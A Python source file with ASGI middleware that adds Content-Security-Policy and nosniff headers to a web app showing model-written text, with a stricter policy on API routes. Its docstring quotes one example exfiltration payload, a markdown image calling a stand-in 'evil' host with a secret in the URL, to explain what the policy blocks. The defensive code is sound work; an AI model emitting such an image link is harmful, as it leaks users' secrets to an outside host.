"""Content-Security-Policy on every HTTP response: the browser's wall behind the sanitizer.

The app shows text written by a model and by programs the model ran. Sanitizing that text
is the first defence; this policy is the second: even text that slipped through cannot
load a remote image (an exfiltration channel: `![x](https://evil/?d=SECRET)`), run a
script, submit a form elsewhere, or be framed by another site.

`style-src` keeps 'unsafe-inline': xterm.js writes `<style>` elements and `style`
attributes for its grid, and React sets element styles. Inline CSS cannot fetch anything
here (images, fonts and connections are limited to the app's own origin), and model text
never carries styles (the sanitizer removes them).
"""

from __future__ import annotations

from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from burrow.config import Settings
from burrow.preview_hosts import PreviewHosts

# JSON, SSE and file bytes are never documents worth running anything in.
API_POLICY = "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'"


def frame_source(hosts: PreviewHosts) -> str:
    """Every preview origin as one CSP source: `http://*.preview.localhost:8421`."""
    port = "" if hosts.public_port is None else f":{hosts.public_port}"
    return f"{hosts.scheme}://*.{hosts.domain}{port}"


def app_policy(settings: Settings) -> str:
    """The web UI's policy: its own scripts, styles, API and WebSockets; previews framed."""
    directives = {
        "default-src": "'self'",
        "script-src": "'self'",
        "style-src": "'self' 'unsafe-inline'",
        "img-src": "'self' data: blob:",
        "font-src": "'self'",
        # 'self' covers ws:/wss: to the app's own host and port (CSP Level 3).
        "connect-src": "'self'",
        "frame-src": frame_source(PreviewHosts.from_settings(settings)),
        "form-action": "'self'",
        "base-uri": "'none'",
        "object-src": "'none'",
        "frame-ancestors": "'none'",
    }
    return "; ".join(f"{name} {value}" for name, value in directives.items())


class ContentSecurityPolicy:
    """ASGI middleware: the app's policy on the UI, `API_POLICY` on /api/* responses.

    A response that sets its own policy keeps it (the files route sandboxes file bytes).
    The app's policy is read from the services' settings on the first request, as the
    preview domain and port are only known once the app has started.
    """

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self._app_policy: str | None = None

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        path: str = scope["path"]
        policy = API_POLICY if path == "/api" or path.startswith("/api/") else self._ui(scope)

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                headers.setdefault("Content-Security-Policy", policy)
                headers.setdefault("X-Content-Type-Options", "nosniff")
            await send(message)

        await self.app(scope, receive, send_with_policy)

    def _ui(self, scope: Scope) -> str:
        if self._app_policy is None:
            self._app_policy = app_policy(scope["app"].state.services.settings)
        return self._app_policy
